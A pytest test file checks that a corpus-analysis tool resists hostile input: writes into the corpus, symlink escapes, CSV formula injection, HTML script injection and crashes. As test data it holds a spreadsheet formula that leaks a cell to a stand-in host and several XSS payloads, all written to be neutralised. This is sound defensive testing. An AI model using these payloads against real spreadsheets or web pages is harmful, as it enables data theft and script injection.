"""Hostile and broken input: each class has a test that failed before its fix.

Texts here are written for the tests. Every test works on a copy of the
bundled corpus (``corpus_copy``) or a small corpus it builds, never on corpus/.
"""
import hashlib
import io
import os
from pathlib import Path

import pandas as pd
import pytest

from analysis import check_corpus, kwic, load_corpus
from analysis.output import write_bytes_atomic, write_table
from analysis.paths import BUNDLED_CORPUS
from tests.helpers import run_cli


def digests(folder: Path) -> dict[str, str]:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.rglob("*")) if p.is_file()}


def small_corpus(root: Path, text: str | bytes, **row) -> Path:
    """A one-article corpus with ``text`` as its raw file."""
    (root / "raw").mkdir(parents=True)
    data = text if isinstance(text, bytes) else text.encode("utf-8")
    (root / "raw" / "a.txt").write_bytes(data)
    meta = {"doc_id": "a", "file": "a.txt", "title": "A readout", "outlet": "Test", "published": "", "voice": "press",
            **row}
    pd.DataFrame([meta]).to_csv(root / "articles.csv", index=False)
    return root


ARTICLE = ("The two sides held candid talks on Monday.\n"
           "\u201cWe must keep the channels open,\u201d the envoy said after the meeting.\n")


# ----------------------------------------------------------------- 1. outputs never land in a corpus

@pytest.mark.parametrize("args", [
    ["scores", "-o", "{corpus}/raw/000_454608b84d56bcf5.txt"],
    ["check", "-o", "{corpus}/raw/x.csv"],
    ["summary", "-o", "{corpus}/articles.csv"],
    ["compare", "--differences", "{corpus}/meetings.csv"],
    ["figures", "--out", "{corpus}/raw"],
])
def test_no_output_lands_in_a_corpus(corpus_copy, args):
    before = digests(corpus_copy)
    r = run_cli(*[a.format(corpus=corpus_copy) for a in args], "--corpus", corpus_copy)
    assert r.returncode == 2 and "refusing to write" in r.stderr and "write it outside" in r.stderr
    assert digests(corpus_copy) == before


def test_no_output_through_a_symlink_into_a_corpus(corpus_copy, tmp_path):
    link = tmp_path / "table.csv"
    link.symlink_to(corpus_copy / "articles.csv")
    before = digests(corpus_copy)
    r = run_cli("summary", "--corpus", corpus_copy, "-o", link)
    assert r.returncode == 2 and "refusing" in r.stderr
    assert digests(corpus_copy) == before


def test_the_bundled_corpus_is_protected_whichever_corpus_is_named(tmp_path):
    corpus = small_corpus(tmp_path / "c", ARTICLE)
    r = run_cli("summary", "--corpus", corpus, "-o", BUNDLED_CORPUS / "raw" / "out.csv")
    assert r.returncode == 2 and not (BUNDLED_CORPUS / "raw" / "out.csv").exists()


# ----------------------------------------------------------------- 2. nothing outside the corpus is read

def test_a_symlinked_raw_file_is_an_error(corpus_copy, tmp_path):
    private = tmp_path / "private.txt"
    private.write_text("secret: the analyst's own notes\n", encoding="utf-8")
    target = corpus_copy / "raw" / "000_454608b84d56bcf5.txt"
    target.unlink()
    target.symlink_to(private)
    found = [str(p) for p in check_corpus(corpus_copy) if p.severity == "error"]
    assert any("symbolic link" in f and "000_454608b84d56bcf5.txt" in f for f in found), found
    r = run_cli("corpus", "--level", "removed", "--corpus", corpus_copy)
    assert r.returncode == 1 and "secret" not in r.stdout + r.stderr
    assert run_cli("checksums", "--corpus", corpus_copy).returncode == 1


def test_raw_folder_that_is_a_symlink_is_an_error(tmp_path):
    corpus = small_corpus(tmp_path / "c", ARTICLE)
    (corpus / "raw").rename(tmp_path / "elsewhere")
    (corpus / "raw").symlink_to(tmp_path / "elsewhere")
    assert any("symbolic link" in str(p) for p in check_corpus(corpus))


# ----------------------------------------------------------------- 3. safe CSV

def test_formula_cells_are_neutralised_unless_raw_cells_asked(tmp_path):
    text = ARTICLE + '=HYPERLINK("http://example.test/?leak="&A1,"Read the full readout")\n'
    corpus = small_corpus(tmp_path / "c", text)
    safe = pd.read_csv(io.StringIO(run_cli("corpus", "--level", "paragraphs", "--corpus", corpus).stdout))
    assert any(t.startswith("'=HYPERLINK") for t in safe["text"]), safe["text"].tolist()
    assert not any(t.startswith("=") for t in safe["text"])
    raw = pd.read_csv(io.StringIO(run_cli("corpus", "--level", "paragraphs", "--raw-cells", "--corpus", corpus).stdout))
    assert any(t.startswith("=HYPERLINK") for t in raw["text"])


def test_numbers_are_never_changed_by_the_formula_guard(tmp_path):
    out = tmp_path / "t.csv"
    write_table(pd.DataFrame({"compound": [-0.5, 0.25], "text": ["-1 point", "+2"]}), out)
    assert out.read_text(encoding="utf-8") == "compound,text\n-0.5,'-1 point\n0.25,'+2\n"


# ----------------------------------------------------------------- 5. nothing quadratic, empty is fine

def test_a_long_one_line_article_is_not_removed_by_a_pattern(tmp_path):
    line = " ".join(["Officials from both capitals met again and spoke at length about trade."] * 300)
    corpus = small_corpus(tmp_path / "c", line + " Two reporters contributed to this report.\n")
    c = load_corpus(corpus)
    assert len(c.paragraphs) == 1 and c.removed.empty


def test_a_corpus_with_no_sentences_gives_empty_tables_with_columns(tmp_path):
    corpus = small_corpus(tmp_path / "c", "Share this\nAdvertisement\n")
    warnings = [str(p) for p in check_corpus(corpus)]
    assert any("no text is left after cleaning" in w for w in warnings)
    for args in (["scores"], ["scores", "--level", "paragraph"], ["compare"], ["quotes"]):
        r = run_cli(*args, "--corpus", corpus)
        assert r.returncode == 0, (args, r.stderr)
        assert pd.read_csv(io.StringIO(r.stdout)).empty
    assert "compound_diplomatic" in run_cli("scores", "--corpus", corpus).stdout


# ----------------------------------------------------------------- 6. no traceback for any input

def test_non_utf8_checksum_file_is_a_message(corpus_copy):
    path = corpus_copy / "checksums.sha256"
    path.write_bytes(path.read_bytes() + b"\xff\xfe broken\n")
    r = run_cli("check", "--corpus", corpus_copy)
    assert r.returncode == 1 and "checksums.sha256" in r.stderr and "Traceback" not in r.stderr


def test_a_csv_line_column_is_a_message(corpus_copy):
    path = corpus_copy / "speakers.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    path.write_text("\n".join([lines[0] + ",csv_line"] + [ln + ",1" for ln in lines[1:]]) + "\n", encoding="utf-8")
    r = run_cli("check", "--corpus", corpus_copy)
    assert r.returncode == 1 and "csv_line" in r.stderr and "Traceback" not in r.stderr


def test_ctrl_c_exits_130_and_leaves_no_partial_file(tmp_path, monkeypatch):
    from analysis import cli, commands

    def interrupted(args):
        raise KeyboardInterrupt

    monkeypatch.setattr(commands, "cmd_summary", interrupted)
    assert cli.main(["summary", "-o", str(tmp_path / "s.csv")]) == 130
    assert list(tmp_path.iterdir()) == []


def test_an_interrupted_write_leaves_neither_target_nor_temporary(tmp_path, monkeypatch):
    target = tmp_path / "t.csv"
    real_replace = os.replace

    def interrupted(src, dst):
        raise KeyboardInterrupt

    monkeypatch.setattr(os, "replace", interrupted)
    with pytest.raises(KeyboardInterrupt):
        write_bytes_atomic(target, b"a,b\n")
    monkeypatch.setattr(os, "replace", real_replace)
    assert list(tmp_path.iterdir()) == []


def test_closed_stdout_is_a_message(tmp_path, monkeypatch):
    import sys

    from analysis import cli

    monkeypatch.setattr(sys, "stdout", None)
    assert cli.main(["summary"]) == 2


def test_an_unexpected_error_is_a_message_not_a_traceback(monkeypatch):
    from analysis import commands

    def broken(args):
        raise RuntimeError("something inside went wrong")

    monkeypatch.setattr(commands, "cmd_summary", broken)
    r = run_cli("summary")
    assert r.returncode == 1 and "something inside went wrong" in r.stderr and "report it" in r.stderr


# ----------------------------------------------------------------- 7. text normalised at load, visibly

def test_control_and_invisible_characters_are_removed_and_reported(tmp_path):
    text = "The two sides held can\u200bdid talks\x00 on trade and cli\u00admate.\n"
    corpus = small_corpus(tmp_path / "c", text)
    c = load_corpus(corpus)
    assert c.paragraphs["text"].tolist() == ["The two sides held candid talks on trade and climate."]
    assert any("control character" in str(w) and "a.txt" in str(w) for w in c.warnings)
    assert kwic(c.sentences, "candid")["hit"].tolist() == ["candid"]
    assert (corpus / "raw" / "a.txt").read_text(encoding="utf-8") == text  # the raw file is untouched
    s = c.sentences.iloc[0]
    assert c.paragraphs.iloc[0]["text"][s.start:s.end] == s.text


def test_a_file_of_invisible_characters_is_empty(tmp_path):
    corpus = small_corpus(tmp_path / "c", "\u200b\u200b\x01\x02\n\u2060\n")
    found = [str(p) for p in check_corpus(corpus) if p.severity == "error"]
    assert any("empty" in f and "invisible" in f for f in found), found


@pytest.mark.parametrize("encoding, named", [("utf-16", "UTF-16"), ("cp1252", "cp1252")])
def test_other_encodings_are_named_with_how_to_convert(tmp_path, encoding, named):
    corpus = small_corpus(tmp_path / "c", "Talks in Beijing \u2013 a \u201ccandid\u201d exchange, caf\u00e9.\n".encode(encoding))
    found = [str(p) for p in check_corpus(corpus) if p.severity == "error"]
    assert any(named in f and "iconv" in f for f in found), found


# ----------------------------------------------------------------- 8. validation keeps going, catches typos

def test_an_unterminated_quote_does_not_hide_later_rows(corpus_copy):
    path = corpus_copy / "articles.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    lines[1] = lines[1].replace("unknown,,press", 'unknown,"no closing quote,press', 1)
    lines[3] = lines[3].replace(",press,", ",newspaper,", 1)
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    found = [str(p) for p in check_corpus(corpus_copy) if p.severity == "error"]
    assert any(":2:" in f and "quote" in f for f in found), found
    assert any(":4:" in f and "unknown voice 'newspaper'" in f for f in found), found
    assert not any("not listed in articles.csv" in f for f in found if "000_" not in f), found


def test_a_misspelt_column_is_a_warning_with_a_suggestion(corpus_copy):
    path = corpus_copy / "articles.csv"
    path.write_text(path.read_text(encoding="utf-8").replace("meeting_id", "meting_id", 1), encoding="utf-8")
    warnings = [str(p) for p in check_corpus(corpus_copy) if p.severity == "warning"]
    assert any("meting_id" in w and "did you mean 'meeting_id'" in w for w in warnings), warnings


@pytest.mark.parametrize("value", ["inf", "nan", "-1", "0"])
def test_numeric_options_must_be_finite_and_in_range(value):
    r = run_cli("distinctive", "--prior-weight", value)
    assert r.returncode == 2 and "prior-weight" in r.stderr


# ----------------------------------------------------------------- 9. outputs behave like files

def test_written_files_follow_the_umask(tmp_path):
    old = os.umask(0o027)
    try:
        write_bytes_atomic(tmp_path / "t.csv", b"x\n")
    finally:
        os.umask(old)
    assert (tmp_path / "t.csv").stat().st_mode & 0o777 == 0o640


def test_output_errors_name_the_users_path(tmp_path):
    (tmp_path / "out.csv").mkdir()
    r = run_cli("summary", "-o", tmp_path / "out.csv")
    assert r.returncode == 2 and str(tmp_path / "out.csv") in r.stderr and ".tmp" not in r.stderr


def test_the_corpus_variable_sets_the_default_corpus(tmp_path, monkeypatch):
    corpus = small_corpus(tmp_path / "c", ARTICLE)
    monkeypatch.setenv("FRAMING_LAB_CORPUS", str(corpus))
    assert load_corpus().documents["doc_id"].tolist() == ["a"]
    r = run_cli("summary")
    assert r.returncode == 0 and r.stdout.splitlines()[1].startswith("a,")


# ----------------------------------------------------------------- 4. safe HTML

HOSTILE_NOTE = '<script>window.framingPwned = 1</script> <img src=x onerror="window.framingPwned = 2">'


@pytest.mark.slow
def test_corpus_text_cannot_run_in_a_notebook_report(corpus_copy, tmp_path, monkeypatch):
    """Notebook 01 shows every article's notes: a script in them must come out as text."""
    from analysis.teach.notebooks import execute_notebook, export_html
    from analysis.paths import NOTEBOOK_DIR
    from analysis.text.corpus import write_checksums

    frame = pd.read_csv(corpus_copy / "articles.csv", keep_default_na=False)
    frame.loc[0, "notes"] = HOSTILE_NOTE
    frame.loc[1, "outlet"] = '<img src=x onload="window.framingPwned = 3">'
    frame.to_csv(corpus_copy / "articles.csv", index=False)
    raw = corpus_copy / "raw" / frame.loc[0, "file"]
    raw.write_text(raw.read_text(encoding="utf-8") + "\nThe envoy said <b onmouseover=alert(4)>talks</b> resumed.\n",
                   encoding="utf-8")
    write_checksums(corpus_copy)
    monkeypatch.setenv("FRAMING_LAB_CORPUS", str(corpus_copy))
    page = export_html(execute_notebook(NOTEBOOK_DIR / "01_corpus.ipynb"), tmp_path / "01.html").read_text(
        encoding="utf-8")
    for live in ("<script>window.framingPwned", "<img src=x onerror", "<img src=x onload", "<b onmouseover"):
        assert live not in page, live
    assert "&lt;script&gt;window.framingPwned" in page  # shown, as text


def test_highlighted_html_escapes_text_spans_and_headings():
    from analysis.present.highlight import highlight_sentences

    sentences = pd.DataFrame({"doc_id": ["d"], "para": [1], "sent": [1], "speaker": ["<script>alert(1)</script>"],
                              "text": ["<img src=x onerror=alert(2)> It is clearly so."]})
    matches = pd.DataFrame({"doc_id": ["d"], "para": [1], "sent": [1], "start": [35], "end": [42],
                            "category": ["booster"], "entry": ["clearly"], "note": ['"><b onmouseover=x>']})
    page = highlight_sentences(sentences, matches, heading=["speaker"])
    for live in ("<script>", "<img", "<b onmouseover"):
        assert live not in page
    assert "clearly</mark>" in page and "&lt;script&gt;" in page


def test_notebook_html_reports_load_nothing_from_the_web(tmp_path):
    import re

    import nbformat

    from analysis.teach.notebooks import export_html

    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("A *note*.")])
    page = export_html(nb, tmp_path / "n.html").read_text(encoding="utf-8")
    assert not re.findall(r'(?:src|href)="(?:https?:)?//', page)
    assert '<script src=""' not in page
